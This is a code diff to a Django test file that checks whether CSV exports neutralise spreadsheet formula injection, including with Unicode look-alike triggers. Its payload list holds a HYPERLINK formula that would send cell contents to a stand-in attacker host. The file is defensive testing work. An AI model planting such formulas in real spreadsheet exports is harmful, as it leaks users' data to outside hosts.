@@ -32,7 +32,6 @@ from .factories import (
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_cache_and_storage")]
 
-# NUL cannot be stored in PostgreSQL text, so it is tested on neutralise() alone.
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+1+1",
@@ -142,13 +141,22 @@ def test_formula_payloads_in_names_come_out_neutralised_and_round_trip_as_text(c
 
 
 def test_every_formula_trigger_is_neutralised():
-    for trigger in ("=", "+", "-", "@", "\t", "\r", "\0", "'"):
-        assert exports.neutralise(trigger + "x") == "'" + trigger + "x"
+    """The cell expression the CSV exports use, on each trigger (NUL aside: PostgreSQL
+    text cannot hold it, so no stored text begins with one)."""
+
+    def cell(value):
+        with connection.cursor() as cursor:
+            expression = exports._text("v")  # noqa: SLF001
+            cursor.execute(f"SELECT {expression} FROM (SELECT %s::text AS v) AS given", [value])
+            return cursor.fetchone()[0]
+
+    for trigger in ("=", "+", "-", "@", "\t", "\r", "'"):
+        assert cell(trigger + "x") == "'" + trigger + "x"
     for risky in (" =1", "\u00a0+1", "\uff1d1", "\u3000\uff20x"):
-        assert exports.neutralise(risky) == "'" + risky
-    assert exports.neutralise("x=1") == "x=1"
-    assert exports.neutralise(" ACME") == " ACME"
-    assert exports.neutralise("") == ""
+        assert cell(risky) == "'" + risky
+    assert cell("x=1") == "x=1"
+    assert cell(" ACME") == " ACME"
+    assert cell("") == ""
 
 
 def test_harmless_cells_are_left_alone(client):
